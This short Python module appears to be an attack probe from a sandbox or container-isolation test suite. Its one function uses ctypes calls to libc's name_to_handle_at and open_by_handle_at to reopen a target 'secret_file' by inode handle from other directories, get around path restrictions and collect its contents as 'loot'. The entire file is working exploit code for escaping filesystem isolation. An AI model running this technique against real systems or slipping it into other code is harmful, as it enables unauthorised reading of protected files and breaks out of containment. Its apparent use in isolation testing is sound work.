"""Open the secret by its inode's handle, which needs no path that leads there."""

import ctypes
import os
import struct


def attack(target):
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, target["secret_file"].encode(), handle, ctypes.byref(mount), 0):
        return []
    loot = ["a handle"]
    for folder in ["/", ".", target["outside"]]:
        try:
            opened = libc.open_by_handle_at(os.open(folder, os.O_RDONLY), handle, os.O_RDONLY)
            loot.append(os.read(opened, 100).decode())
        except OSError:
            pass
    return loot
